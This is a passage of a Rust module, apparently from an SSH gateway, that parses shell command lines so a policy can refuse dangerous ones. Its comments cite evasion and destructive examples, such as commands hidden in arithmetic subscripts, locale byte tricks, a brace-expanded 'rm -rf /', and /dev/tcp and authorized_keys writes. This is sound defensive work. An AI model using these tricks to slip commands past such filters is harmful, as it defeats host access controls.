//! The command line of an SSH `exec` request, parsed so that policy can decide on it before
//! the host runs it.
//!
//! sshd runs an exec request as `$SHELL -c "LINE"`, so what runs is whatever a POSIX shell
//! (in practice bash or dash) makes of LINE. This module follows the token recognition,
//! quoting, expansion and grammar rules of the POSIX "Shell Command Language" (plus the bash
//! extensions an attacker is most likely to reach for: `$'…'`, `[[ … ]]`, `function`,
//! `<(…)`, `&>`, `<<<`, brace expansion, `coproc`, `$[…]`, bash 5.3's `${ …; }`) far enough
//! to answer one question: which programs run, with which arguments.
//!
//! It is conservative. A shell decides many things only at run time (the value of a
//! variable, the files a glob matches, the output of a command substitution, what a script
//! read from stdin contains). Where the program that runs cannot be known from the text, the
//! parser does not guess: it keeps the word as written and sets a [`CommandFlag`] so that a
//! policy can refuse the line. Where it can look inside (a command substitution, the string
//! of `sh -c`, the arguments of `eval`, the command that `sudo`, `env` or `timeout` runs, a
//! here-document fed to a shell), it does, and lists the commands found there as well. It
//! would rather list a command that never runs than miss one that does.
//!
//! What it does not see, so a policy should prefer allow-lists of programs over deny-lists:
//! - programs started by other programs through means it does not model (`awk 'BEGIN {
//!   system("…") }'`, `git -c core.pager=…`, `vim -c '!…'`, `make`, scripts on disk), and
//!   wrapper programs beyond the list in [`CommandFlag::Sudo`]'s documentation;
//! - the arguments that `xargs` appends at run time, or that an expansion produces;
//! - the value of a variable that arithmetic (or a builtin evaluating a subscript) evaluates:
//!   an array subscript in it runs command substitutions, so such a line is flagged
//!   ([`CommandFlag::ArithmeticEval`]) rather than followed;
//! - the effect of an earlier command on a later one: `cd /dev; echo > sda`, `hash -p`,
//!   functions and aliases defined by the line (their bodies are parsed and listed, but a call
//!   of a function is listed under the function's name);
//! - the target of a redirection or path built from an expansion (`> $DEV`).

use serde::{Deserialize, Serialize};
use std::collections::BTreeSet;

/// The longest command line accepted, in bytes. OpenSSH itself accepts up to 256 KiB in an
/// exec request; a human or an agent never needs that much, and the limit bounds the work
/// the parser does for one request.
pub const MAX_LINE_BYTES: usize = 64 * 1024;

/// The deepest nesting accepted: subshells, groups, compound commands, substitutions,
/// nested `sh -c` strings and wrapper chains (`env env … rm`) all count. It bounds the
/// parser's recursion, so a hostile line cannot exhaust the stack or make the work grow with
/// the square of its length.
pub const MAX_DEPTH: usize = 32;

/// The most words (programs, arguments, assignments) recorded for one line. A line of
/// [`MAX_LINE_BYTES`] has at most half as many words, but wrappers and nested texts list
/// words again (`eval eval … x x x`); the limit keeps that from multiplying the memory a
/// line costs.
pub const MAX_WORDS: usize = 64 * 1024;

/// The most bytes of nested texts (strings of `sh -c`, `eval`'s arguments, here-documents fed
/// to a shell, array subscripts) parsed again for one line. A nested text can hold the
/// substitution the outer parse already went through, so without a bound nesting could make
/// the work double with each level.
pub const MAX_NESTED_BYTES: usize = 4 * MAX_LINE_BYTES;

/// A parsed command line: every simple command found, wherever it was found, and what the
/// parser noticed about the line as a whole.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct CommandLine {
    /// The simple commands in the order they were recognised. This includes commands inside
    /// compound commands, command substitutions, nested `sh -c` strings and `eval`
    /// arguments, and the command a wrapper runs (`sudo rm` lists both `sudo` and `rm`).
    pub commands: Vec<SimpleCommand>,
    /// What makes the line more dangerous than its list of commands shows, or what makes
    /// that list incomplete.
    pub flags: BTreeSet<CommandFlag>,
}

/// One program invocation.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct SimpleCommand {
    /// The program as written, after quote removal: `"/bin/rm"` is `/bin/rm`. An expansion
    /// is kept as written (`$PROG`), and [`CommandFlag::Expansion`] is set.
    pub program: String,
    /// The arguments after quote removal, expansions kept as written.
    pub args: Vec<String>,
    /// `NAME=value` words before the program, which set the environment of this command.
    pub assignments: Vec<String>,
    /// The redirections of the command, in order.
    pub redirects: Vec<Redirect>,
}

impl SimpleCommand {
    /// The last path component of the program, which is what policy rules on program names
    /// compare: `/usr/bin/rm` and `rm` run the same thing as far as a rule is concerned.
    pub fn program_name(&self) -> &str {
        self.program.rsplit('/').next().unwrap_or(&self.program)
    }
}

/// A redirection such as `2>> log`.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Redirect {
    /// The operator with its file descriptor number if one was written: `>`, `>>`, `<`,
    /// `2>`, `&>`, `<<`, `<<-`, `<<<`, `>&`, `<>` …
    pub op: String,
    /// The file (after quote removal), the descriptor for `>&`, the delimiter for a
    /// here-document, or the string for `<<<`.
    pub target: String,
}

/// What a policy may want to refuse regardless of the programs listed. Serialised in
/// snake_case (`pipe_to_shell`), the names a policy configuration uses.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum CommandFlag {
    /// A shell or interpreter runs code the gateway never sees: it reads its script from
    /// stdin (a pipe, a here-document, a redirected file or the SSH channel itself, as with a
    /// bare `bash`), or it sits after a `|` where whatever it runs may come from the pipe.
    /// Shells: sh, bash, dash, zsh, ksh, mksh, fish, ash, hush, csh, tcsh, yash (also through
    /// `busybox sh`); interpreters: python*, pypy*, perl*, ruby*, node, php*.
    PipeToShell,
    /// A shell runs a command string (`sh -c '…'`, `su -c '…'`); the string was parsed and
    /// its commands are listed too.
    NestedShell,
    /// A program that changes privileges runs: sudo, su, doas, pkexec, runuser. (Wrappers
    /// that do not change privileges, such as `env` or `nice`, do not set this flag; the
    /// command they run is listed as a command of its own.)
    Sudo,
    /// A `$(…)`, backquoted or `<(…)`/`>(…)` command substitution; its commands are listed.
    CommandSubstitution,
    /// The program of a command comes from an expansion (`$PROG`, `${X}`, `$(…)`), a glob
    /// (`/bin/r?`) or a brace expansion (`{rm,-rf,/}`): a rule on program names cannot be
    /// trusted for this line.
    Expansion,
    /// Code built from strings runs: `eval`, `source`, `.`, `trap`, `alias`, the callback of
    /// `mapfile -C`. The strings given literally were parsed and their commands are listed;
    /// sourced files were not.
    Eval,
    /// An arithmetic context, or a builtin that evaluates a subscript (`test -v`, `[[ -v ]]`,
    /// `unset`, `declare`, `printf -v`, `read` …), evaluates a name or expansion whose value
    /// the gateway cannot see; bash evaluates that value as an expression, and an array
    /// subscript in it runs command substitutions (`b='x[$(rm …)]'; echo $((b))`). Set for
    /// `$((…))`, `((…))`, `for ((…))`, `let`, `$[…]`, an array subscript or substring offset in
    /// `${…}`, an indirection `${!x}`, a subscript in an assignment (`a=([i]=x)` too),
    /// `[[ … -eq … ]]` operands and `declare -i`/`-n` values that hold a variable name or an
    /// expansion, and for a name given to such a builtin that holds an expansion or a
    /// subscript that does. Numbers, operators and `$#`-like numeric expansions alone do not
    /// set it.
    ArithmeticEval,
    /// A redirection writes to a device under /dev (other than null, stdout, stderr, stdin,
    /// tty and fd/N), reads or writes bash's /dev/tcp or /dev/udp sockets, or `dd of=` or
    /// `tee` names such a device.
    DeviceRedirect,
    /// A word names `authorized_keys`, or a redirection writes into a `.ssh` directory:
    /// someone may be installing a key that outlives this session.
    AuthorizedKeys,
    /// A command runs in the background (`&`) and may outlive the request.
    Background,
    /// An assignment, `export` or `env` changes a variable that decides which program or
    /// library runs (PATH, LD_PRELOAD, BASH_ENV, IFS …): program names in this line may not
    /// be what runs.
    SensitiveVariable,
    /// Part of the line could not be understood well enough to know what runs: a nested
    /// string (`sh -c`, `eval`, a here-document fed to a shell) that does not parse, or a
    /// wrapper option this parser does not know (so the wrapped command may be misread).
    Unparsed,
}

/// Why a line was refused outright. A refused line should not run: the parser cannot say
/// what it would do.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CommandError {
    #[error("command line of {len} bytes is longer than the limit of {max} bytes")]
    TooLong { len: usize, max: usize },
    #[error("command line contains a NUL byte at offset {0}")]
    NulByte(usize),
    #[error("unterminated {what} starting at offset {offset}")]
    Unterminated { what: &'static str, offset: usize },
    #[error("command line nests deeper than {0} levels")]
    TooDeep(usize),
    #[error("command line runs more than {0} words in its commands, nested ones included")]
    TooManyWords(usize),
    #[error("command line has more than {0} bytes of nested texts to parse")]
    TooMuchNested(usize),
    #[error("syntax error at offset {offset}: {message}")]
    Syntax { offset: usize, message: String },
    #[error("a non-ASCII byte right before an ASCII punctuation byte (one of @[\\]^`{{|}}~) at offset {0}: a shell in a locale whose characters may end in an ASCII byte (BIG5, GBK, GB18030, Shift JIS) reads the two as one character, so what runs depends on the host's locale")]
    LocaleDependent(usize),
}

/// Where a shell's reading of `text` may depend on its locale: a byte of a non-ASCII
/// character right before an ASCII punctuation byte of 0x40–0x7E (`@`, `[`, `\`, `]`, `^`,
/// `` ` ``, `{`, `|`, `}`, `~`); the offset is that of the punctuation byte. UTF-8 never puts
/// an ASCII byte inside a character, but BIG5, GBK, GB18030 and Shift JIS do: the second byte
/// of a two-byte character may be any byte of 0x40–0x7E, and bash in such a locale reads the
/// pair as one character. Each of these punctuation bytes changes the structure of a line when
/// it is swallowed, so the host runs what the gateway did not read: `€\; rm` (UTF-8
/// `e2 82 ac 5c`) is `[e2 82][ac 5c]` there, and the `;` the gateway reads as escaped
/// separates commands; in `"${x:-€}"'$(rm …)'"}"` the `}` of `€}` is swallowed, so the `${…}`
/// runs on over what the gateway reads as a single-quoted literal, and the `$(…)` in it runs.
/// Letters, digits and `_` (the other bytes that may end such a character, GB18030's
/// four-byte characters included) only change the text of a word, never where a word, quote
/// or expansion ends.
fn locale_dependent(text: &[u8]) -> Option<usize> {
    text.windows(2)
        .position(|pair| {
            pair[0] >= 0x80 && matches!(pair[1], b'@' | b'['..=b'^' | b'`' | b'{'..=b'~')
        })
        .map(|at| at + 1)
}

/// Whether an arithmetic expression refers to something whose value the gateway cannot see:
/// a variable name (bash evaluates its value as an expression in turn) or an expansion.
/// Numbers (`10`, `0x1f`, `16#ff`, `64#@_`), operators, and the expansions that are always a
/// number (`$#`, `$?`, `$$`, `$!`, `${#name}`, `${#name[@]}`) do not.
fn arith_refers(text: &[u8]) -> bool {
    let mut i = 0;
    while let Some(&c) = text.get(i) {
        if c == b'$' {
            if let Some(len) = numeric_expansion(&text[i..]) {
                i += len;
                continue;
            }
        }
        if c == b'$' || c == b'`' || c.is_ascii_alphabetic() || c == b'_' {
            return true;
        }
        if c.is_ascii_digit() {
            // A number with its base and digits, letters included.
            while text
                .get(i)
                .is_some_and(|&b| b.is_ascii_alphanumeric() || matches!(b, b'#' | b'@' | b'_'))
            {
                i += 1;
            }
            continue;
        }
        i += 1;
    }
    false
}

/// The length of an expansion at the start of `text` (which starts with `$`) whose value is
/// always a number: `$#`, `$?`, `$$`, `$!`, `${#name}`, `${#name[@]}`, `${#name[*]}`.
fn numeric_expansion(text: &[u8]) -> Option<usize> {
    match text.get(1)? {
        b'#' | b'?' | b'$' | b'!' => Some(2),
        b'{' if text.get(2) == Some(&b'#') => {
            let name = text[3..]
                .iter()
                .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
                .count();
            let mut end = 3 + name;
            if text[end..].starts_with(b"[@]") || text[end..].starts_with(b"[*]") {
                end += 3;
            }
            (name > 0 && text.get(end) == Some(&b'}')).then_some(end + 1)
        }
        _ => None,
    }
}

/// Where the subscript of `NAME[…]` at the start of `text` ends: the index of its `]`.
fn subscript_end(text: &[u8], open: usize) -> Option<usize> {
    let mut depth = 0usize;
    for (i, &b) in text.iter().enumerate().skip(open + 1) {
        match b {
            b'[' => depth += 1,
            b']' if depth == 0 => return Some(i),
            b']' => depth -= 1,
            _ => {}
        }
    }
    None
}

/// Whether a word that bash takes as a variable name (`test -v`, `unset`, `printf -v`, `read`,
/// the name of an assignment) makes it evaluate what the gateway cannot see: an expansion in
/// it (the name, subscript included, is then unknown), or an array subscript that refers to a
/// variable or an expansion (`a[i]` evaluates `i`, whose value may be `x[$(rm …)]`).
fn name_evaluates(name: &[u8]) -> bool {
    if name.contains(&b'$') || name.contains(&b'`') {
        return true;
    }
    let Some(open) = memchr::memchr(b'[', name) else {
        return false;
    };
    let close = subscript_end(name, open).unwrap_or(name.len());
    let inner = &name[open + 1..close];
    !matches!(inner, b"@" | b"*") && arith_refers(inner)
}

/// Whether the value of an assignment evaluates what the gateway cannot see: the subscripts
/// of a compound array assignment (`a=([i]=x)` evaluates `i`).
fn value_evaluates(value: &[u8]) -> bool {
    if value.first() != Some(&b'(') {
        return false;
    }
    memchr::memchr_iter(b'[', value).any(|open| {
        subscript_end(value, open).is_some_and(|close| {
            let after = &value[close + 1..];
            (after.starts_with(b"=") || after.starts_with(b"+="))
                && arith_refers(&value[open + 1..close])
        })
    })
}

/// The name and value of an assignment word (`a[i]=v`, `a+=v`): the first `=` outside a
/// subscript splits them.
fn split_assignment(text: &[u8]) -> (&[u8], Option<&[u8]>) {
    let mut depth = 0usize;
    for (i, &b) in text.iter().enumerate() {
        match b {
            b'[' => depth += 1,
            b']' => depth = depth.saturating_sub(1),
            b'=' if depth == 0 => {
                let name = &text[..i];
                return (
                    name.strip_suffix(b"+").unwrap_or(name),
                    Some(&text[i + 1..]),
                );
            }
            _ => {}
        }
    }
    (text, None)
}

/// Whether a parameter expansion (the text between `${` and `}`) makes bash evaluate what the
/// gateway cannot see: an array subscript (`${a[i]}`) or a substring offset and length
/// (`${s:i:n}`), both arithmetic, that refer to a variable or an expansion; or an indirection
/// (`${!x}`), which takes the value of `x` as a name, subscript included.
fn parameter_evaluates(inner: &[u8]) -> bool {
    let indirect = inner.len() > 1 && inner[0] == b'!';
    let mut i = usize::from(inner.len() > 1 && matches!(inner[0], b'!' | b'#'));
    let name = i;
    while inner
        .get(i)
        .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
    {
        i += 1;
    }
    if i == name && i < inner.len() {
        i += 1;
    }
    let mut all_elements = false;
    if inner.get(i) == Some(&b'[') {
        let close = subscript_end(inner, i).unwrap_or(inner.len());
        let sub = &inner[i + 1..close];
        all_elements = matches!(sub, b"@" | b"*");
        if !all_elements && arith_refers(sub) {
            return true;
        }
        i = (close + 1).min(inner.len());
    }
    let rest = &inner[i..];
    // `${!prefix*}`, `${!prefix@}` and `${!a[@]}` list names or keys: nothing is evaluated.
    if indirect && !matches!(rest, b"*" | b"@") && !(all_elements && rest.is_empty()) {
        return true;
    }
    rest.first() == Some(&b':')
        && !matches!(rest.get(1), Some(b'-' | b'=' | b'?' | b'+'))
        && arith_refers(&rest[1..])
}

/// Parses an exec command line. An empty line (or one with only blanks and comments) gives
/// no commands. Errors mean the line is malformed or too large or deep to analyse; the shell
/// would either reject it too or run something the gateway cannot describe.
pub fn parse(line: &str) -> Result<CommandLine, CommandError> {
    if line.len() > MAX_LINE_BYTES {
        return Err(CommandError::TooLong {
            len: line.len(),
            max: MAX_LINE_BYTES,
        });
    }
    if let Some(at) = line.bytes().position(|b| b == 0) {
        return Err(CommandError::NulByte(at));
    }
    if let Some(at) = locale_dependent(line.as_bytes()) {
        return Err(CommandError::LocaleDependent(at));
    }
    let mut out = Sink::default();
    Parser::new(line.as_bytes(), 0, 0, &mut out, false).run()?;
    Ok(out.line)
}

/// Shell-style pattern matching for policy rules on programs, arguments and paths: `*` any
/// run of characters, `?` one character, `[abc]`, `[a-z]`, `[!a-z]` or `[^a-z]` a set,
/// `[[:digit:]]` a class, `\x` the character x itself. Unlike pathname expansion, `*` also
/// matches `/` and a leading `.`, so `/etc/*` covers everything below /etc (like a `case`
/// pattern). An unterminated `[` is an ordinary character. The whole text must match.
pub fn glob_match(pattern: &str, text: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let t: Vec<char> = text.chars().collect();
    let (mut pi, mut ti) = (0, 0);
    // The position after the last `*` and the text position it is currently matched up to:
    // on a mismatch the star absorbs one more character. This keeps matching at O(p·t)
    // without recursion, however many stars a pattern has.
    let mut star: Option<(usize, usize)> = None;
    while ti < t.len() {
        if pi < p.len() && p[pi] == '*' {
            pi += 1;
            star = Some((pi, ti));
            continue;
        }
        if pi < p.len() {
            if let Some(next) = match_one(&p, pi, t[ti]) {
                pi = next;
                ti += 1;
                continue;
            }
        }
        match star {
            Some((sp, st)) => {
                pi = sp;
                ti = st + 1;
                star = Some((sp, st + 1));
            }
            None => return false,
        }
    }
    p[pi..].iter().all(|&c| c == '*')
}

/// Matches the single-character pattern element at `p[pi]` (not `*`) against `c`; returns
/// the index after the element on a match.
fn match_one(p: &[char], pi: usize, c: char) -> Option<usize> {
    match p[pi] {
        '?' => Some(pi + 1),
        '[' => match bracket(p, pi, c) {
            Some((true, next)) => Some(next),
            Some((false, _)) => None,
            None => (c == '[').then_some(pi + 1),
        },
        '\\' if pi + 1 < p.len() => (p[pi + 1] == c).then_some(pi + 2),
        other => (other == c).then_some(pi + 1),
    }
}

/// Evaluates the bracket expression starting at `p[start] == '['` for `c`: whether it
/// matched and where the expression ends; `None` if it is not terminated.
fn bracket(p: &[char], start: usize, c: char) -> Option<(bool, usize)> {
    let mut i = start + 1;
    let negate = matches!(p.get(i), Some('!') | Some('^'));
    if negate {
        i += 1;
    }
    let mut matched = false;
    let mut first = true;
    loop {
        let ch = *p.get(i)?;
        if ch == ']' && !first {
            return Some((matched != negate, i + 1));
        }
        first = false;
        if ch == '[' && p.get(i + 1) == Some(&':') {
            let close =
                (i + 2..p.len().saturating_sub(1)).find(|&k| p[k] == ':' && p[k + 1] == ']');
            if let Some(k) = close {
                let name: String = p[i + 2..k].iter().collect();
                matched |= match name.as_str() {
                    "alpha" => c.is_alphabetic(),
                    "digit" => c.is_ascii_digit(),
                    "alnum" => c.is_alphanumeric(),
                    "upper" => c.is_uppercase(),
                    "lower" => c.is_lowercase(),
                    "space" => c.is_whitespace(),
                    "punct" => c.is_ascii_punctuation(),
                    "xdigit" => c.is_ascii_hexdigit(),
                    _ => false,
                };
                i = k + 2;
                continue;
            }
        }
        let (lo, after) = if ch == '\\' && i + 1 < p.len() {
            (p[i + 1], i + 2)
        } else {
            (ch, i + 1)
        };
        if p.get(after) == Some(&'-') && p.get(after + 1).is_some_and(|&h| h != ']') {
            let (hi, end) = if p[after + 1] == '\\' && after + 2 < p.len() {
                (p[after + 2], after + 3)
            } else {
                (p[after + 1], after + 2)
            };
            matched |= lo <= c && c <= hi;
            i = end;
        } else {
            matched |= lo == c;
            i = after;
        }
    }
}

// ---------------------------------------------------------------------------------------
// Words and tokens

/// A word after quote removal, with what the lexer learnt about how it was written.
#[derive(Debug, Clone, Default)]
struct Word {
    /// Quote-removed bytes; expansions are kept as written. Bytes, because `$'\xff'` can
    /// produce bytes that are not UTF-8.
    text: Vec<u8>,
    /// The text as a glob pattern: characters that were quoted are escaped with `\`.
    pattern: Vec<u8>,
    /// Some part was quoted or escaped: reserved words and assignments are not recognised.
    quoted: bool,
    /// Contains a parameter, arithmetic or command expansion: its value is not known.
    expanded: bool,
    /// Contains an unquoted `*`, `?`, `[` or a brace expansion: it may become other words.
    glob: bool,
    /// Starts with an unquoted `NAME=` (or `NAME+=`): an assignment in command prefix.
    assign: bool,
    /// Still only unquoted name characters so far (for recognising assignments).
    name_so_far: bool,
    /// An unquoted `{` has been seen, and after it a `,` or `..` (brace expansion).
    brace_open: bool,
    brace_sep: bool,
}

impl Word {
    fn new() -> Self {
        Word {
            name_so_far: true,
            ..Word::default()
        }
    }

    fn string(&self) -> String {
        String::from_utf8_lossy(&self.text).into_owned()
    }

    fn push_quoted(&mut self, b: u8) {
        self.quoted = true;
        self.name_so_far = false;
        self.text.push(b);
        if matches!(b, b'*' | b'?' | b'[' | b']' | b'\\') {
            self.pattern.push(b'\\');
        }
        self.pattern.push(b);
    }

    fn push_unquoted(&mut self, b: u8) {
        if b == b'=' && self.name_so_far && !self.assign {
            let name = self.text.strip_suffix(b"+").unwrap_or(&self.text);
            self.assign = !name.is_empty()
                && !name[0].is_ascii_digit()
                && name.iter().all(|&c| c.is_ascii_alphanumeric() || c == b'_');
        }
        if !(b.is_ascii_alphanumeric() || b == b'_' || (b == b'+' && !self.assign)) {
            self.name_so_far = false;
        }
        match b {
            b'*' | b'?' | b'[' => self.glob = true,
            b'{' => self.brace_open = true,
            b',' if self.brace_open => self.brace_sep = true,
            b'.' if self.brace_open && self.text.last() == Some(&b'.') => self.brace_sep = true,
            b'}' if self.brace_open && self.brace_sep => self.glob = true,
            _ => {}
        }
        self.text.push(b);
        self.pattern.push(b);
    }

    /// Appends an expansion as written.
    fn push_expansion(&mut self, raw: &[u8]) {
        self.expanded = true;
        self.name_so_far = false;
        self.text.extend_from_slice(raw);
        self.pattern.extend_from_slice(raw);
    }

    /// The reserved word this word is, if it is written as one (unquoted, no expansion).
    fn reserved(&self) -> Option<&'static str> {
        if self.quoted || self.expanded {
            return None;
        }
        RESERVED.iter().copied().find(|r| r.as_bytes() == self.text)
    }

    fn is(&self, word: &str) -> bool {
        self.reserved() == Some(word)
    }
}

const RESERVED: &[&str] = &[
    "!", "{", "}", "case", "do", "done", "elif", "else", "esac", "fi", "for", "function", "if",
    "in", "select", "then", "until", "while", "[[", "]]",
];

/// Reserved words that end a list: the parser of the enclosing compound command checks
/// which one it expects.
const LIST_END: &[&str] = &["}", "do", "done", "elif", "else", "esac", "fi", "then"];

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Op {
    Semi,
    Amp,
    AndIf,
    OrIf,
    Pipe,
    PipeAmp,
    LParen,
    RParen,
    DSemi,
    SemiAmp,
    DSemiAmp,
    Less,
    Great,
    DLess,
    DLessDash,
    TLess,
    DGreat,
    LessAnd,
    GreatAnd,
    LessGreat,
    Clobber,
    AndGreat,
    AndDGreat,
}

impl Op {
    fn redirect(self) -> Option<&'static str> {
        Some(match self {
            Op::Less => "<",
            Op::Great => ">",
            Op::DLess => "<<",
            Op::DLessDash => "<<-",
            Op::TLess => "<<<",
            Op::DGreat => ">>",
            Op::LessAnd => "<&",
            Op::GreatAnd => ">&",
            Op::LessGreat => "<>",
            Op::Clobber => ">|",
            Op::AndGreat => "&>",
            Op::AndDGreat => "&>>",
            _ => return None,
        })
    }

    fn reads_input(self) -> bool {
        matches!(
            self,
            Op::Less | Op::DLess | Op::DLessDash | Op::TLess | Op::LessAnd | Op::LessGreat
        )
    }
}

#[derive(Debug)]
enum Tok {
    Word(Word),
    /// A file descriptor number (or bash `{name}`) written right before a redirection.
    IoNumber(String),
    Op(Op),
    Newline,
    Eof,
}

/// The data a redirection feeds to stdin, when the text holds it.
#[derive(Debug, Clone)]
enum Body {
    None,
    /// A here-document whose body is read at the next newline.
    Slot(usize),
    /// A here-string.
    Text(Vec<u8>),
}

#[derive(Debug, Clone)]
struct RedirInfo {
    redirect: Redirect,
    stdin: bool,
    body: Body,
}

#[derive(Debug)]
struct PendingHeredoc {
    delimiter: Vec<u8>,
    strip_tabs: bool,
    quoted: bool,
    slot: usize,
}

// ---------------------------------------------------------------------------------------
// The parser

/// What the parsers of a line and of its nested texts add to.
#[derive(Default)]
struct Sink {
    line: CommandLine,
    words: usize,
    /// Bytes of nested texts parsed so far (see [`MAX_NESTED_BYTES`]).
    nested: usize,
}

/// A recursive-descent parser that lexes on demand: the lexer and the grammar share one
/// cursor, so a `$(…)` is parsed by the grammar itself (which is the only way to find its
/// closing parenthesis, as `case` patterns and comments may hold unbalanced ones).
struct Parser<'s, 'o> {
    src: &'s [u8],
    pos: usize,
    /// Offset of `src` in the line, for error messages of nested texts.
    base: usize,
    depth: usize,
    out: &'o mut Sink,
    peeked: Option<Tok>,
    /// Command substitution level inside this text: a here-document body is read at the
    /// next newline of the level that declared it, as bash and dash do.
    level: usize,
    pending: Vec<Vec<PendingHeredoc>>,
    bodies: Vec<Option<Vec<u8>>>,
    /// Here-documents fed to a shell, parsed as scripts once their bodies are read.
    deferred_scripts: Vec<usize>,
    /// Stdin of the commands being parsed comes from a pipe.
    piped: bool,
}

type Res<T> = Result<T, CommandError>;

impl<'s, 'o> Parser<'s, 'o> {
    fn new(src: &'s [u8], base: usize, depth: usize, out: &'o mut Sink, piped: bool) -> Self {
        Parser {
            src,
            pos: 0,
            base,
            depth,
            out,
            peeked: None,
            level: 0,
            pending: Vec::new(),
            bodies: Vec::new(),
            deferred_scripts: Vec::new(),
            piped,
        }
    }

    fn run(&mut self) -> Res<()> {
        self.parse_list()?;
        match self.next()? {
            Tok::Eof => {}
            tok => return Err(self.unexpected(&tok)),
        }
        // A here-document not terminated before the end is read to the end, as bash does.
        self.read_heredocs()?;
        let deferred = std::mem::take(&mut self.deferred_scripts);
        for slot in deferred {
            if let Some(Some(body)) = self.bodies.get(slot).cloned() {
                self.nested(&body, false)?;
            }
        }
        Ok(())
    }

    fn flag(&mut self, f: CommandFlag) {
        self.out.line.flags.insert(f);
    }

    fn syntax(&self, message: impl Into<String>) -> CommandError {
        CommandError::Syntax {
            offset: self.base + self.pos,
            message: message.into(),
        }
    }

    fn unterminated(&self, what: &'static str, start: usize) -> CommandError {
        CommandError::Unterminated {
            what,
            offset: self.base + start,
        }
    }

    fn unexpected(&self, tok: &Tok) -> CommandError {
        let what = match tok {
            Tok::Word(w) => format!("unexpected word `{}`", w.string()),
            Tok::IoNumber(n) => format!("unexpected `{n}`"),
            Tok::Op(op) => format!("unexpected operator {op:?}"),
            Tok::Newline => "unexpected newline".to_string(),
            Tok::Eof => "unexpected end of line".to_string(),
        };
        self.syntax(what)
    }

    fn enter(&mut self) -> Res<()> {
        if self.depth >= MAX_DEPTH {
            return Err(CommandError::TooDeep(MAX_DEPTH));
        }
        self.depth += 1;
        Ok(())
    }

    fn leave(&mut self) {
        self.depth -= 1;
    }

    /// Parses a text the shell will parse later (the string of `sh -c`, `eval`'s
    /// arguments, a here-document fed to a shell) and adds its commands. With `strict`
    /// unset, a text that does not parse only sets [`CommandFlag::Unparsed`]: the outer line
    /// is valid and the inner shell decides what it does with the text. Limits (depth,
    /// words) still fail the whole line, so they cannot be used to hide a command.
    fn nested(&mut self, text: &[u8], strict: bool) -> Res<()> {
        self.parse_inner(text, strict, |p| p.run())
    }

    /// Runs `parse` over a nested text (see [`Parser::nested`]).
    fn parse_inner(
        &mut self,
        text: &[u8],
        strict: bool,
        parse: fn(&mut Parser<'_, '_>) -> Res<()>,
    ) -> Res<()> {
        if self.depth >= MAX_DEPTH {
            return Err(CommandError::TooDeep(MAX_DEPTH));
        }
        if text.contains(&0) {
            self.flag(CommandFlag::Unparsed);
            return Ok(());
        }
        if let Some(at) = locale_dependent(text) {
            return Err(CommandError::LocaleDependent(self.base + self.pos + at));
        }
        self.count_nested(text.len())?;
        let base = self.base + self.pos;
        let piped = self.piped;
        let result = parse(&mut Parser::new(
            text,
            base,
            self.depth + 1,
            &mut *self.out,
            piped,
        ));
        match result {
            Ok(()) => Ok(()),
            Err(
                e @ (CommandError::TooDeep(_)
                | CommandError::TooManyWords(_)
                | CommandError::TooMuchNested(_)
                | CommandError::LocaleDependent(_)),
            ) => Err(e),
            Err(e) if strict => Err(e),
            Err(_) => {
                self.flag(CommandFlag::Unparsed);
                Ok(())
            }
        }
    }

    /// Lists the commands hidden in the array subscripts of a word. bash expands a
    /// subscript, command substitutions included, whenever it evaluates a word as an
    /// arithmetic expression or a variable name: `test -v 'a[$(rm x)]'`, `[[ 'a[$(rm x)]' -eq 0
    /// ]]`, `printf -v`, `read`, `let`, `declare`, any assignment to a variable declared
    /// integer (by this line or by the host's `.bashrc`). Quoting does not stop it, so every
    /// `NAME[…]` in the quote-removed text of every word is looked into, quotes inside it
    /// ignored (an unquoted substitution there is listed twice: once as the line's own).
    fn subscripts(&mut self, text: &[u8]) -> Res<()> {
        let mut at = 0;
        while let Some(open) = memchr::memchr(b'[', &text[at..]).map(|i| at + i) {
            at = open + 1;
            if open == 0 || !(text[open - 1].is_ascii_alphanumeric() || text[open - 1] == b'_') {
                continue;
            }
            let mut depth = 0usize;
            let end = text[at..]
                .iter()
                .position(|&b| match b {
                    b'[' => {
                        depth += 1;
                        false
                    }
                    b']' if depth == 0 => true,
                    b']' => {
                        depth -= 1;
                        false
                    }
                    _ => false,
                })
                .map_or(text.len(), |i| at + i);
            let inside = &text[at..end];
            at = end;
            if inside.contains(&b'`')
                || memchr::memmem::find(inside, b"$(").is_some()
                || memchr::memmem::find(inside, b"${").is_some()
            {
                self.parse_inner(inside, false, |p| p.expansions())?;
            }
        }
        Ok(())
    }

    fn count_nested(&mut self, len: usize) -> Res<()> {
        self.out.nested += len;
        if self.out.nested > MAX_NESTED_BYTES {
            return Err(CommandError::TooMuchNested(MAX_NESTED_BYTES));
        }
        Ok(())
    }

    /// Parses every expansion of the whole text (a subscript), as if it were unquoted and
    /// double-quoted at once: quotes do not hide anything from it.
    fn expansions(&mut self) -> Res<()> {
        let mut scratch = Word::new();
        while let Some(c) = self.byte(self.pos) {
            match c {
                b'$' => self.dollar(&mut scratch, true)?,
                b'`' => self.backquoted(&mut scratch, true)?,
                _ => self.pos += 1,
            }
        }
        Ok(())
    }

    // --- lexer --------------------------------------------------------------------------

    fn peek(&mut self) -> Res<&Tok> {
        if self.peeked.is_none() {
            let tok = self.lex()?;
            self.peeked = Some(tok);
        }
        Ok(self.peeked.get_or_insert(Tok::Eof))
    }

    fn next(&mut self) -> Res<Tok> {
        match self.peeked.take() {
            Some(tok) => Ok(tok),
            None => self.lex(),
        }
    }

    fn peek_op(&mut self, op: Op) -> Res<bool> {
        Ok(matches!(self.peek()?, Tok::Op(o) if *o == op))
    }

    fn peek_reserved(&mut self) -> Res<Option<&'static str>> {
        Ok(match self.peek()? {
            Tok::Word(w) => w.reserved(),
            _ => None,
        })
    }

    fn byte(&self, at: usize) -> Option<u8> {
        self.src.get(at).copied()
    }

    fn skip_blanks(&mut self) {
        loop {
            match self.byte(self.pos) {
                Some(b' ' | b'\t') => self.pos += 1,
